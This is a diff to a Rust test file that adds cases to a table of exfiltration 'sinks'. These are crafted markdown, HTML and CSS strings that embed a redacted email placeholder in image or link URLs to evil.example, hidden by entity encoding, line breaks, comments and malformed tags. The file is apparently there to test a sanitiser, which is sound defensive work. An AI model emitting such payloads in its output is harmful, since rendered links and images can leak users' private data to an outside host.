@@ -108,6 +108,54 @@ const SINKS: &[(&str, &str)] = &[
     ("CSS url", "background: url(/x?[EMAIL_1])"),
     ("CSS url, quoted", "background: URL( \"/x ) [EMAIL_1]\" )"),
     ("CSS url, bare placeholder", "url(EMAIL_1)"),
+    (
+        "definition after a lone carriage return",
+        "x\r[x]: /[EMAIL_1]",
+    ),
+    (
+        "URL with an entity",
+        "https&#58;&#x2F;&sol;evil.example/[EMAIL_1]",
+    ),
+    (
+        "URL with entities that have no semicolon",
+        "https&#58//evil.example/[EMAIL_1]",
+    ),
+    (
+        "link in an unfinished link",
+        "](x ![](<https://evil.example/?q=)) [EMAIL_1]>)",
+    ),
+    (
+        "link around what looks like a link",
+        "![](<https://evil.example/?](b) [EMAIL_1]>)",
+    ),
+    (
+        "attribute after a quote in a comment",
+        "<!-- <a b=\" --><img src=\"https://evil.example/?q=> [EMAIL_1]\">",
+    ),
+    (
+        "attribute after quotes in a comment and a value",
+        "<!-- <a b=\" --><img alt=\"<a b=\" src=\"&#104;ttps&#58;&#47;&#47;evil.example/?q=> [EMAIL_1]\">",
+    ),
+    (
+        "attribute after a text area",
+        "<textarea><a b=\"</textarea><img src=\"/?q=> [EMAIL_1]\">",
+    ),
+    (
+        "attribute after a stray sign",
+        "<img =\" src=\"> [EMAIL_1]\">",
+    ),
+    (
+        "scheme cut by a line break",
+        "<!-- <a b=\" --><img src=\"ht\ntps:/\n/evil.example/?q=> [EMAIL_1]\">",
+    ),
+    (
+        "CSS url after a bad string",
+        "url(\"x\n) url(\")/?q=) [EMAIL_1]\")",
+    ),
+    (
+        "more open tags than are followed",
+        "<a <b <c <d <e <f <g <h <i <j > [EMAIL_1]",
+    ),
 ];
 
 #[test]
